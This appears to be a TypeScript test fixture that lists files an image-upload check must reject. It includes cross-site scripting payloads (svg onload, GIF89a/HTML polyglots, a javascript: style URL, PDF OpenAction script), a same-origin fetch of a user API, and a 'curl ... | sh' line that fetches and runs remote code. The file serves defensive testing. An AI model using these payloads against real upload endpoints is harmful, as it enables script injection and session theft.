// Files that an attacker might want a browser to open from our address. None of them is an accepted image.
import { gzipSync } from "node:zlib";
import { pictures } from "./pictures.ts";

const html = "<!doctype html><script>alert(document.domain)</script>";
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>`;
const text = (words: string, encoding: BufferEncoding = "utf8") => Buffer.from(words, encoding);
const hex = (digits: string, rest = "") => Buffer.concat([Buffer.from(digits, "hex"), Buffer.from(rest)]);
const { png, gif, webp, jpeg } = pictures;

export const hostileFiles: readonly { about: string; bytes: Buffer }[] = [
  { about: "nothing", bytes: Buffer.alloc(0) },
  { about: "one byte", bytes: hex("89") },
  { about: "zeros", bytes: Buffer.alloc(512) },
  { about: "svg", bytes: text(svg) },
  { about: "svg after a declaration", bytes: text(`<?xml version="1.0"?>${svg}`) },
  { about: "svg after a byte order mark", bytes: text(`\ufeff${svg}`) },
  { about: "svg in UTF-16", bytes: text(`\ufeff${svg}`, "utf16le") },
  { about: "svg compressed (svgz)", bytes: gzipSync(svg) },
  { about: "svg after space", bytes: text(`\n\n   ${svg}`) },
  { about: "svg after a comment that holds a png's name", bytes: text(`<!-- \x89PNG -->${svg}`, "latin1") },
  { about: "html", bytes: text(html) },
  { about: "html in capitals", bytes: text(html.toUpperCase()) },
  { about: "html after GIF without a version", bytes: text(`GIF${html}`) },
  { about: "html after a GIF of an unknown version", bytes: text(`GIF88a${html}`) },
  { about: "html after GIF89a", bytes: text(`GIF89a${html}`) },
  { about: "script after GIF89a", bytes: text("GIF89a/*\u0001\u0001*/=1;alert(document.domain)//") },
  { about: "script in a GIF's comment sign", bytes: text("GIF89a=0;fetch('/api/v1/me').then(alert)") },
  { about: "xhtml", bytes: text(`<html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>`) },
  { about: "xml with a style sheet", bytes: text(`<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>`) },
  { about: "mhtml", bytes: text("MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n") },
  { about: "script", bytes: text("alert(document.cookie) // image/png image/png") },
  { about: "style sheet", bytes: text("body{background:url(javascript:alert(1))}") },
  { about: "json", bytes: text('{"image":"png","data":[1,2,3,4,5,6,7,8]}') },
  { about: "pdf", bytes: text("%PDF-1.7\n1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert(1))>>>>") },
  { about: "flash", bytes: text("FWS\u0009aaaaaaaaaaaaaaaaaaaaaaaa") },
  { about: "zip", bytes: hex("504b0304140000000800", "x".repeat(40)) },
  { about: "jar with a picture behind", bytes: Buffer.concat([hex("504b0304140000000800"), png]) },
  { about: "java class", bytes: hex("cafebabe00000034", "x".repeat(40)) },
  { about: "web assembly", bytes: hex("0061736d01000000", "x".repeat(40)) },
  { about: "windows program", bytes: hex("4d5a90000300000004000000ffff0000", "x".repeat(40)) },
  { about: "linux program", bytes: hex("7f454c46020101000000000000000000", "x".repeat(40)) },
  { about: "shell script", bytes: text("#!/bin/sh\ncurl https://example.com/x | sh\n") },
  { about: "bmp", bytes: hex("424d46000000000000003600000028000000", "x".repeat(40)) },
  { about: "tiff", bytes: hex("49492a0008000000", "x".repeat(40)) },
  { about: "ico", bytes: hex("00000100010010100000010020006804", "x".repeat(40)) },
  { about: "avif", bytes: hex("0000001c66747970617669660000000061766966", "x".repeat(40)) },
  { about: "heic", bytes: hex("00000018667479706865696300000000", "x".repeat(40)) },
  { about: "jpeg xl", bytes: hex("0000000c4a584c200d0a870a", "x".repeat(40)) },
  { about: "psd", bytes: hex("38425053000100000000", "x".repeat(40)) },
  { about: "mp4", bytes: hex("00000018667479706d70343200000000", "x".repeat(40)) },
  {
    about: "wave sound in RIFF",
    bytes: Buffer.concat([text("RIFF\u0024\u0000\u0000\u0000WAVEfmt "), Buffer.alloc(40)]),
  },
  { about: "cursor in RIFF", bytes: Buffer.concat([text("RIFF\u0024\u0000\u0000\u0000ACONanih"), Buffer.alloc(40)]) },
  { about: "webp of an unknown chunk", bytes: Buffer.concat([webp.subarray(0, 12), text("HTML"), webp.subarray(16)]) },
  {
    about: "webp that says it is longer",
    bytes: Buffer.concat([text("RIFF\u00ff\u00ff\u00ff\u0000"), webp.subarray(8)]),
  },
  { about: "png cut before its size", bytes: png.subarray(0, 16) },
  { about: "png with html for its header", bytes: Buffer.concat([png.subarray(0, 8), text(html)]) },
  { about: "png through a text mode", bytes: text(png.toString("latin1").replaceAll("\r\n", "\n"), "latin1") },
  { about: "png of no width", bytes: Buffer.concat([png.subarray(0, 16), Buffer.alloc(4), png.subarray(20)]) },
  { about: "png as base64", bytes: text(png.toString("base64")) },
  { about: "png after a line break", bytes: Buffer.concat([text("\n"), png]) },
  { about: "png as a data URL", bytes: text(`data:image/png;base64,${png.toString("base64")}`) },
  { about: "gif of no width", bytes: Buffer.concat([gif.subarray(0, 6), Buffer.alloc(2), gif.subarray(8)]) },
  { about: "gif without a block", bytes: Buffer.concat([gif.subarray(0, 19), text(html)]) },
  { about: "jpeg that ends at once", bytes: Buffer.concat([hex("ffd8ffd9"), text(html)]) },
  { about: "jpeg that begins twice", bytes: Buffer.concat([hex("ffd8ffd8"), jpeg]) },
  { about: "jpeg of two bytes and html", bytes: Buffer.concat([hex("ffd8"), text(html)]) },
];
